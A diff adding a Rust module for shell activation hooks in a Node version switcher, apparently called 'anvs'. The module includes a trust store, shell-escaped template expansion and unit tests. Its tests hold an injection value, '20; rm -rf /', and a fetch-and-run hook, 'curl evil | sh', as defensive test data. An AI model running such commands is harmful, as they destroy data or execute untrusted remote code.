@@ -0,0 +1,401 @@
+//! Activation hooks
+//!
+//! Hooks are shell commands from `hooks:` in ~/.anvsrc or a project's
+//! .anvs.yaml, written to the parent shell around the activation command.
+//!
+//! # Trust
+//! Hooks in ~/.anvsrc always run. Hooks in a project's .anvs.yaml run only
+//! after `anvs trust`, which records the exact commands in
+//! `~/.anvs/trusted.json`. Changing a project's hooks revokes its trust, so
+//! a checkout can't run new commands just because you `cd` into it.
+
+use crate::config::{Hooks, ProjectHooks};
+use anyhow::{Context, Result};
+use log::{debug, warn};
+use std::collections::BTreeMap;
+use std::fs;
+use std::path::{Path, PathBuf};
+
+/// Variable the shell hook keeps the active version file(s) in
+///
+/// See `commands::hook_check::active_key` for the format.
+pub const ACTIVE_KEY_VAR: &str = "ANVS_ACTIVE_KEY";
+
+/// When a hook runs
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum HookStage {
+    PreActivate,
+    PostActivate,
+    OnLeave,
+}
+
+impl HookStage {
+    /// Config key of this stage
+    pub fn key(self) -> &'static str {
+        match self {
+            HookStage::PreActivate => "pre_activate",
+            HookStage::PostActivate => "post_activate",
+            HookStage::OnLeave => "on_leave",
+        }
+    }
+
+    /// Commands for this stage in `hooks`
+    pub fn commands(self, hooks: &Hooks) -> &[String] {
+        match self {
+            HookStage::PreActivate => &hooks.pre_activate,
+            HookStage::PostActivate => &hooks.post_activate,
+            HookStage::OnLeave => &hooks.on_leave,
+        }
+    }
+}
+
+/// Values substituted into hook templates
+///
+/// Missing values expand to an empty string.
+#[derive(Debug, Clone, Default, PartialEq)]
+pub struct HookVars {
+    /// Version being activated (`{version}`)
+    pub version: String,
+    /// Version active before this activation (`{previous_version}`)
+    pub previous_version: String,
+    /// Directory containing the version file (`{project_root}`)
+    pub project_root: String,
+    /// Version manager doing the switch (`{plugin}`)
+    pub plugin: String,
+}
+
+impl HookVars {
+    /// Copy of these values with `plugin` set
+    pub fn with_plugin(&self, plugin: &str) -> Self {
+        Self {
+            plugin: plugin.to_string(),
+            ..self.clone()
+        }
+    }
+
+    /// Substitutes the variables in `template`
+    ///
+    /// Values are shell-escaped, so a version or path can't inject commands.
+    pub fn expand(&self, template: &str) -> String {
+        let mut expanded = String::with_capacity(template.len());
+        let mut rest = template;
+
+        // Single pass, so substituted values are never expanded again
+        while let Some(start) = rest.find('{') {
+            expanded.push_str(&rest[..start]);
+            let tail = &rest[start..];
+            let value = tail.find('}').and_then(|end| {
+                let value = match &tail[1..end] {
+                    "version" => &self.version,
+                    "previous_version" => &self.previous_version,
+                    "project_root" => &self.project_root,
+                    "plugin" => &self.plugin,
+                    _ => return None,
+                };
+                Some((value, end))
+            });
+            match value {
+                Some((value, end)) => {
+                    expanded.push_str(&shell_escape::escape(value.as_str().into()));
+                    rest = &tail[end + 1..];
+                }
+                None => {
+                    expanded.push('{');
+                    rest = &tail[1..];
+                }
+            }
+        }
+        expanded.push_str(rest);
+        expanded
+    }
+}
+
+/// Project hooks the user has allowed to run
+#[derive(Debug, Clone, Default)]
+pub struct TrustStore {
+    path: PathBuf,
+    trusted: BTreeMap<PathBuf, Hooks>,
+}
+
+impl TrustStore {
+    /// Default location: ~/.anvs/trusted.json
+    pub fn default_path() -> Result<PathBuf> {
+        let home = dirs::home_dir().context("Could not determine home directory")?;
+        Ok(home.join(".anvs").join("trusted.json"))
+    }
+
+    /// Loads the store from `path` (a missing or unreadable file is empty)
+    pub fn load(path: impl Into<PathBuf>) -> Self {
+        let path = path.into();
+        let trusted = fs::read_to_string(&path)
+            .ok()
+            .and_then(|content| match serde_json::from_str(&content) {
+                Ok(trusted) => Some(trusted),
+                Err(e) => {
+                    warn!("Ignoring unreadable trust store {}: {e}", path.display());
+                    None
+                }
+            })
+            .unwrap_or_default();
+        Self { path, trusted }
+    }
+
+    /// Loads the store from the default location
+    pub fn load_default() -> Result<Self> {
+        Ok(Self::load(Self::default_path()?))
+    }
+
+    /// Whether `project`'s hooks are trusted exactly as they are now
+    pub fn is_trusted(&self, project: &ProjectHooks) -> bool {
+        self.trusted.get(&project.path) == Some(&project.hooks)
+    }
+
+    /// Trusts `project`'s current hooks
+    pub fn trust(&mut self, project: &ProjectHooks) -> Result<()> {
+        self.trusted
+            .insert(project.path.clone(), project.hooks.clone());
+        self.save()
+    }
+
+    /// Revokes trust for the project config at `path`
+    ///
+    /// # Returns
+    /// Whether the config was trusted
+    pub fn revoke(&mut self, path: &Path) -> Result<bool> {
+        let removed = self.trusted.remove(path).is_some();
+        if removed {
+            self.save()?;
+        }
+        Ok(removed)
+    }
+
+    fn save(&self) -> Result<()> {
+        if let Some(dir) = self.path.parent() {
+            fs::create_dir_all(dir)
+                .with_context(|| format!("failed to create {}", dir.display()))?;
+        }
+        let content = serde_json::to_string_pretty(&self.trusted)?;
+        fs::write(&self.path, content)
+            .with_context(|| format!("failed to write {}", self.path.display()))
+    }
+}
+
+/// Expanded commands to run for `stage`
+///
+/// `user` hooks come first, then `project`'s hooks if `trust` allows them.
+/// Untrusted project hooks are skipped with a warning.
+pub fn commands(
+    user: &Hooks,
+    project: Option<&ProjectHooks>,
+    trust: &TrustStore,
+    stage: HookStage,
+    vars: &HookVars,
+) -> Vec<String> {
+    let mut templates: Vec<&String> = stage.commands(user).iter().collect();
+
+    if let Some(project) = project {
+        let project_commands = stage.commands(&project.hooks);
+        if !project_commands.is_empty() {
+            if trust.is_trusted(project) {
+                templates.extend(project_commands);
+            } else {
+                crate::output::warning(&format!(
+                    "Skipping untrusted {} hooks in {}. Review them, then run 'anvs trust' to allow them.",
+                    stage.key(),
+                    project.path.display()
+                ));
+            }
+        }
+    }
+
+    let commands: Vec<String> = templates.iter().map(|t| vars.expand(t)).collect();
+    debug!("{} hooks: {commands:?}", stage.key());
+    commands
+}
+
+/// Directory of the project an active key points at
+///
+/// That's the directory of the nearest version file in the key. Keys from
+/// path rules name no version file, so they have no project directory.
+pub fn key_project_root(key: &str) -> Option<PathBuf> {
+    let nearest = key.rsplit('|').next()?;
+    let (path, _version) = nearest.rsplit_once(':')?;
+    let path = Path::new(path);
+    if !path.is_file() {
+        return None;
+    }
+    path.parent().map(Path::to_path_buf)
+}
+
+/// Version of the `node` on PATH, read from its install path
+///
+/// nvm and fnm install each version in a `v{version}` directory, so this
+/// avoids spawning node.
+pub fn active_node_version() -> Option<String> {
+    install_version(&which::which("node").ok()?)
+}
+
+/// Version of the `node` found on `path` (a PATH value)
+pub fn node_version_on(path: &str) -> Option<String> {
+    install_version(&which::which_in("node", Some(path), "/").ok()?)
+}
+
+/// Version of the `v{version}` directory `node` is installed in
+fn install_version(node: &Path) -> Option<String> {
+    node.ancestors()
+        .filter_map(|dir| dir.file_name()?.to_str())
+        .find_map(|name| {
+            let version = name.strip_prefix('v')?;
+            semver::Version::parse(version).ok()?;
+            Some(version.to_string())
+        })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::config::Config;
+    use tempfile::tempdir;
+
+    fn project(path: &str, post_activate: &[&str]) -> ProjectHooks {
+        ProjectHooks {
+            path: PathBuf::from(path),
+            hooks: Hooks {
+                post_activate: post_activate.iter().map(|s| s.to_string()).collect(),
+                ..Hooks::default()
+            },
+        }
+    }
+
+    #[test]
+    fn test_expand() {
+        let vars = HookVars {
+            version: "20.11.0".to_string(),
+            previous_version: String::new(),
+            project_root: "/work/my app".to_string(),
+            plugin: "nvm".to_string(),
+        };
+        assert_eq!(
+            vars.expand("echo {plugin} {previous_version} -> {version} in {project_root}"),
+            "echo nvm '' -> 20.11.0 in '/work/my app'"
+        );
+
+        let vars = HookVars {
+            version: "20; rm -rf /".to_string(),
+            ..HookVars::default()
+        };
+        assert_eq!(vars.expand("echo {version}"), "echo '20; rm -rf /'");
+
+        // Unknown placeholders (and shell braces) are left alone
+        let vars = HookVars {
+            project_root: "/work/{plugin}".to_string(),
+            ..HookVars::default()
+        };
+        assert_eq!(
+            vars.expand("cd {project_root} && echo ${HOME} {other}"),
+            "cd '/work/{plugin}' && echo ${HOME} {other}"
+        );
+    }
+
+    #[test]
+    fn test_key_project_root() {
+        let temp = tempdir().unwrap();
+        let nvmrc = temp.path().join("app/.nvmrc");
+        fs::create_dir(temp.path().join("app")).unwrap();
+        fs::write(&nvmrc, "20.11.0").unwrap();
+        let root = temp.path().join(".nvmrc");
+        fs::write(&root, "20.11.0").unwrap();
+
+        let key = format!("{}:20.11.0", nvmrc.display());
+        assert_eq!(key_project_root(&key), Some(temp.path().join("app")));
+
+        // Workspace keys end with the nearest version file
+        let key = format!("{}:20.11.0|{}:20.11.0", root.display(), nvmrc.display());
+        assert_eq!(key_project_root(&key), Some(temp.path().join("app")));
+
+        assert_eq!(key_project_root("~/work/legacy/**:14.21.3"), None);
+        assert_eq!(key_project_root(""), None);
+    }
+
+    #[test]
+    fn test_trust_store() {
+        let temp = tempdir().unwrap();
+        let path = temp.path().join("anvs/trusted.json");
+        let app = project("/work/app/.anvs.yaml", &["npm rebuild"]);
+
+        let mut store = TrustStore::load(&path);
+        assert!(!store.is_trusted(&app));
+        store.trust(&app).unwrap();
+
+        let mut store = TrustStore::load(&path);
+        assert!(store.is_trusted(&app));
+
+        // Changed hooks need to be trusted again
+        assert!(!store.is_trusted(&project("/work/app/.anvs.yaml", &["curl evil | sh"])));
+
+        assert!(store.revoke(&app.path).unwrap());
+        assert!(!store.revoke(&app.path).unwrap());
+        assert!(!TrustStore::load(&path).is_trusted(&app));
+    }
+
+    #[test]
+    fn test_commands_respect_trust() {
+        let temp = tempdir().unwrap();
+        let mut store = TrustStore::load(temp.path().join("trusted.json"));
+        let app = project("/work/app/.anvs.yaml", &["npm rebuild"]);
+        let config = Config {
+            hooks: Hooks {
+                post_activate: vec!["echo {version}".to_string()],
+                on_leave: vec!["echo bye".to_string()],
+                ..Hooks::default()
+            },
+            project_hooks: Some(app.clone()),
+            ..Config::default()
+        };
+        let vars = HookVars {
+            version: "20.11.0".to_string(),
+            ..HookVars::default()
+        };
+
+        assert_eq!(
+            commands(
+                &config.hooks,
+                config.project_hooks.as_ref(),
+                &store,
+                HookStage::PostActivate,
+                &vars
+            ),
+            vec!["echo 20.11.0"]
+        );
+        assert!(commands(
+            &config.hooks,
+            config.project_hooks.as_ref(),
+            &store,
+            HookStage::PreActivate,
+            &vars
+        )
+        .is_empty());
+
+        store.trust(&app).unwrap();
+        assert_eq!(
+            commands(
+                &config.hooks,
+                config.project_hooks.as_ref(),
+                &store,
+                HookStage::PostActivate,
+                &vars
+            ),
+            vec!["echo 20.11.0", "npm rebuild"]
+        );
+        assert_eq!(
+            commands(
+                &config.hooks,
+                config.project_hooks.as_ref(),
+                &store,
+                HookStage::OnLeave,
+                &vars
+            ),
+            vec!["echo bye"]
+        );
+    }
+}